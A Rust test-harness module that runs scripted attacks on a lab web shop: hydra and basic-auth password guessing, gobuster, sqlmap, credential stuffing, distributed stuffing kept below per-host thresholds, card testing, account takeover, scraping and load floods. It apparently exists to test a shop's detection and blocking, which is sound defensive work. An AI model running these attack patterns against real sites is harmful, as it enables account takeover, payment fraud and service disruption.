//! Attacks on the lab shop with real tools and scripted clients, shared by
//! the lab tests and `bench app` so both run the same thing.

use std::{
    path::Path,
    process::{Child, Output, Stdio},
};

use anyhow::Result;

use crate::{lab::Host, shop::ShopLab};

/// hydra's http-post-form guessing from `host` with a combo list of
/// `guesses` leaked pairs; `wait` is its per-try timeout in seconds.
pub fn hydra(shop: &ShopLab, host: &Host, guesses: usize, wait: u32) -> Result<Output> {
    let combo = shop.dir.join("combo.txt");
    let pairs: String = (1..=guesses)
        .map(|n| format!("customer{}@lab.shop:leaked-{n}\n", n % 20 + 1))
        .collect();
    std::fs::write(&combo, pairs)?;
    // -I: no restore file from an earlier run; hydra writes one where it
    // runs when stopped, so it runs in the lab's directory.
    Ok(host
        .ns
        .cmd("timeout")
        .current_dir(&shop.dir)
        .args(["30", "hydra", "-I", "-C"])
        .arg(&combo)
        .args([
            "-s",
            &crate::shop::PORT.to_string(),
            "-t",
            "4",
            "-w",
            &wait.to_string(),
            &shop.lab.storefront.v4.to_string(),
        ])
        .args([
            "http-post-form",
            "/login:user=^USER^&pass=^PASS^:F=Invalid login",
        ])
        .output()?)
}

/// gobuster's directory discovery from `host` with the word list `words`;
/// `wait` is its per-request timeout.
pub fn gobuster(shop: &ShopLab, host: &Host, words: &Path, wait: &str) -> Result<Output> {
    Ok(host
        .ns
        .cmd("timeout")
        .args([
            "30",
            "gobuster",
            "dir",
            "-q",
            "-t",
            "4",
            "--timeout",
            wait,
            "-u",
        ])
        .arg(shop.url("/"))
        .arg("-w")
        .arg(words)
        .output()?)
}

/// A bounded loop of curl requests from `host` with a browser's user
/// agent, `pause` seconds apart, stopping at the first that gets no answer
/// (the client is cut off). `what` is curl's arguments, where `$i` is the
/// round.
pub fn hammer(host: &Host, rounds: u32, pause: f64, what: &str) -> Result<()> {
    let script = format!(
        "for i in $(seq {rounds}); do code=$(curl -s -o /dev/null -w '%{{http_code}}' --max-time 1 -A '{}' {what}); [ \"$code\" = 000 ] && break; sleep {pause}; done",
        crate::shop::BROWSER
    );
    host.ns.cmd("sh").args(["-c", &script]).output()?;
    Ok(())
}

/// Failed logins for a new account each round at `login` (the shop's
/// login URL, directly or through a proxy): credential stuffing.
pub fn stuffing(host: &Host, login: &str, rounds: u32, pause: f64) -> Result<()> {
    hammer(
        host,
        rounds,
        pause,
        &format!("-d \"user=customer$i@lab.shop&pass=guess$i\" {login}"),
    )
}

/// Small payments with a new card each round, all declined: card testing.
pub fn card_testing(shop: &ShopLab, host: &Host, rounds: u32, pause: f64) -> Result<()> {
    hammer(
        host,
        rounds,
        pause,
        &format!(
            "-d \"card=40000000000000$(printf %02d $i)&amount=1.00\" {}",
            shop.url("/checkout")
        ),
    )
}

/// Basic-auth guesses on the staff area (nginx's error log).
pub fn basic_auth_guessing(shop: &ShopLab, host: &Host, rounds: u32, pause: f64) -> Result<()> {
    hammer(
        host,
        rounds,
        pause,
        &format!("-u \"admin:guess$i\" {}", shop.url("/staff/")),
    )
}

/// Failed logins on three accounts, then a stolen pair that works: an
/// account takeover.
pub fn account_takeover(shop: &ShopLab, host: &Host) -> Result<()> {
    let accounts = crate::shop::accounts();
    let login = shop.url("/login");
    for (user, _) in &accounts[..3] {
        crate::shop::curl(host, &login, &["-d", &format!("user={user}&pass=nope")]);
    }
    let (user, pass) = &accounts[3];
    crate::shop::curl(host, &login, &["-d", &format!("user={user}&pass={pass}")]);
    Ok(())
}

/// sqlmap against the shop's search form.
pub fn sqlmap(shop: &ShopLab, host: &Host) -> Result<Output> {
    Ok(host
        .ns
        .cmd("timeout")
        .args(["30", "sqlmap", "-u", &shop.url("/search?q=mug")])
        .args(["--batch", "--timeout", "1", "--retries", "0"])
        .output()?)
}

/// wrk hammering the front page from `host` for `secs` seconds.
pub fn wrk(shop: &ShopLab, host: &Host, secs: u32) -> Result<Child> {
    Ok(host
        .ns
        .cmd("wrk")
        .args([
            "-t",
            "1",
            "-c",
            "8",
            "-d",
            &format!("{secs}s"),
            "--timeout",
            "2s",
        ])
        .arg(shop.url("/"))
        .stdout(Stdio::null())
        .spawn()?)
}

/// A scraper fetching every product page, `rounds` times, as fast as it
/// is answered.
pub fn crawl(shop: &ShopLab, host: &Host, rounds: u32) -> Result<Child> {
    let crawl = format!(
        "for round in $(seq {rounds}); do for i in $(seq 50); do curl -s -o /dev/null --max-time 1 -A '{}' {}/product/$i; done; done",
        crate::shop::BROWSER,
        shop.url("")
    );
    Ok(host.ns.cmd("sh").args(["-c", &crawl]).spawn()?)
}

/// Each of `hosts` fails `guesses` logins, 10 s apart, each for another
/// account: distributed stuffing, every host far under its own threshold.
pub fn distributed_stuffing(shop: &ShopLab, hosts: &[Host], guesses: u32) -> Result<Vec<Child>> {
    let url = shop.url("/login");
    hosts
        .iter()
        .enumerate()
        .map(|(h, host)| {
            let script = format!(
                "sleep 0.{h:02}; for i in $(seq {guesses}); do curl -s -o /dev/null --max-time 2 -A '{}' -d \"user=customer$i@lab.shop&pass=leak{h}x$i\" {url}; sleep 10; done",
                crate::shop::BROWSER
            );
            Ok(host.ns.cmd("sh").args(["-c", &script]).spawn()?)
        })
        .collect()
}

/// A flash sale: each of `hosts` mistypes a password once, logs in, then
/// browses pages and their assets at a human pace for `rounds` rounds.
pub fn flash_sale(shop: &ShopLab, hosts: &[Host], rounds: u32) -> Result<Vec<Child>> {
    hosts
        .iter()
        .map(|h| {
            let script = format!(
                "curl -s -o /dev/null -d 'user=customer1@lab.shop&pass=typo' {login}; curl -s -o /dev/null -d 'user=customer1@lab.shop&pass=pw-1-correct-horse' {login}; \
                 for i in $(seq {rounds}); do for p in / /product/$i /static/shop.css /cart; do curl -s -o /dev/null --max-time 2 -A '{ua}' {base}$p; done; sleep 0.5; done",
                login = shop.url("/login"),
                base = shop.url(""),
                ua = crate::shop::BROWSER,
            );
            Ok(h.ns.cmd("sh").args(["-c", &script]).spawn()?)
        })
        .collect()
}
